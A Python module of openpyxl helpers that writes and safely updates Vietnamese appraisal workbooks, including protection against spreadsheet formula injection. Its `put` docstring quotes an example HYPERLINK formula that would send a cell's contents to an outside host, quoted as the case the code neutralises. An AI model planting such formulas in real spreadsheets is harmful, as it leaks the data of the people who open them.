"""The openpyxl toolkit shared by the workbooks dvk writes (appraisal, corrections, problem report).

openpyxl is imported inside the functions that use it, when a workbook is first opened or written: a rerun
with nothing to write (the common case) starts a tenth of a second sooner without it. Other modules style
cells through these helpers and never import openpyxl themselves.
"""

from __future__ import annotations

import copy
import functools
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import TYPE_CHECKING, Any, TypeVar

from pipeline.discover import sha256_file
from pipeline.model import DvkError
from pipeline.platform import files
from pipeline.vntext import neutralise

T = TypeVar("T")

if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

HIGHLIGHT = "FFF2CC"  # pale yellow: a cell that asks for a person's attention


@functools.cache
def top_wrap() -> Any:
    from openpyxl.styles import Alignment

    return Alignment(wrap_text=True, vertical="top")


@functools.cache
def solid_fill(color: str) -> Any:
    from openpyxl.styles import PatternFill

    return PatternFill("solid", fgColor=color)


@functools.cache
def no_fill() -> Any:
    from openpyxl.styles import PatternFill

    return PatternFill()


def column_letter(index: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(index)


def titled_sheet(name: str, columns: tuple[tuple[str, int], ...], freeze: str) -> tuple[Workbook, Worksheet]:
    """A new workbook whose one sheet has a bold header row of `columns` (title, width) and frozen panes."""
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = name
    for index, (title, width) in enumerate(columns, start=1):
        cell = sheet.cell(1, index, title)
        cell.font = Font(bold=True)
        cell.alignment = Alignment(wrap_text=True, vertical="center")
        sheet.column_dimensions[column_letter(index)].width = width
    sheet.freeze_panes = freeze
    return workbook, sheet


def header_columns(
    sheet: Worksheet, path: Path, columns: tuple[tuple[str, int], ...], book: str = "Sổ thẩm định"
) -> dict[str, int]:
    """Column title -> column number, found by the header text (people may reorder columns)."""
    headers = {str(cell.value).strip(): cell.column for cell in sheet[1] if cell.value}
    missing = [title for title, _ in columns if title not in headers]
    if missing:
        raise DvkError(
            f'{book} {path.name} thiếu cột "{missing[0]}" ở hàng tiêu đề; khôi phục tên cột rồi chạy lại.'
        )
    return headers


def open_workbook(path: Path, read_only: bool = False) -> Workbook:
    from openpyxl import load_workbook

    try:
        return load_workbook(path, read_only=read_only)
    except Exception as exc:  # openpyxl raises many types for a damaged file
        raise DvkError(
            f"Không mở được sổ thẩm định {path}: {exc}. Không ghi đè; sửa hoặc chuyển tệp đi."
        ) from exc


def put(cell: Cell, value: object) -> Cell:
    """Write `value` into `cell`: the one way dvk writes a cell whose text may come from a file, a name
    or a certificate. Such text is stored as text, never as a formula: openpyxl stores any text starting
    with "=" as a formula, and `=HYPERLINK("http://…/?d="&B2,"Xem")` as a model's name would run in the
    secretariat's Excel or LibreOffice (text starting with "+", "-" or "@" is text already). Control and
    bidirectional characters are neutralised as everywhere dvk shows text (`vntext.neutralise`)."""
    if isinstance(value, str):
        value = neutralise(value)
        cell.value = value
        if cell.data_type == "f":
            cell.data_type = "s"
    else:
        cell.value = value
    return cell


def text_cells(sheet: Any, values: Iterable[object]) -> list[Cell]:
    """`values` as cells for `sheet.append` (normal or write-only sheet), each written by `put`."""
    from openpyxl.cell import WriteOnlyCell

    return [put(WriteOnlyCell(sheet), value) for value in values]


def style_like(cell: Cell, sample: Cell) -> Cell:
    """Give `cell` the styles of `sample`. Assigning a font or alignment makes openpyxl hash the style
    object for every cell, which took most of the time of writing a province-scale sheet; copying the
    sample's style indices (as openpyxl's own copy_worksheet does) costs nothing."""
    cell._style = copy.copy(sample._style)
    return cell


def save_atomically(workbook: Workbook, path: Path, before_replace: Callable[[], None] | None = None) -> None:
    files.write_atomically(path, workbook.save, ".xlsx", before_replace)


# ---------------------------------------------------------------------------- never over a person's save

WRITE_ATTEMPTS = 3


class WorkbookMoved(Exception):
    """The workbook on disk changed after dvk read it: that write is dropped and the update redone."""


def file_stamp(path: Path) -> tuple[int, int, str] | None:
    """Size, time and content hash of the file (None when there is none): what version dvk read."""
    try:
        stat = path.stat()
    except FileNotFoundError:
        return None
    return stat.st_size, stat.st_mtime_ns, sha256_file(path)


def redo_if_moved(
    path: Path, write: Callable[[Callable[[], None]], T], book: str, then: str
) -> tuple[T, tuple[int, int, str] | None]:
    """`write(before_replace)` a workbook people edit, never replacing a version dvk has not read: just
    before the new file takes the old one's place, `before_replace` compares the file on disk with the
    version read; if a person saved meanwhile, the write is dropped and done again on their version.
    Returns what `write` returned and the stamp of the version it was made from. `book` names the
    workbook, `then` says what to do when saves keep landing (the message says nothing was written)."""
    for _ in range(WRITE_ATTEMPTS):
        seen = file_stamp(path)

        def unchanged_since_read(seen: tuple | None = seen) -> None:
            if file_stamp(path) != seen:
                raise WorkbookMoved

        try:
            return write(unchanged_since_read), seen
        except WorkbookMoved:
            continue
    raise DvkError(
        f"{book} {path} được lưu lại nhiều lần trong lúc dvk ghi; dvk chưa ghi gì để không đè lên "
        f"chỉnh sửa của người dùng. {then}"
    )
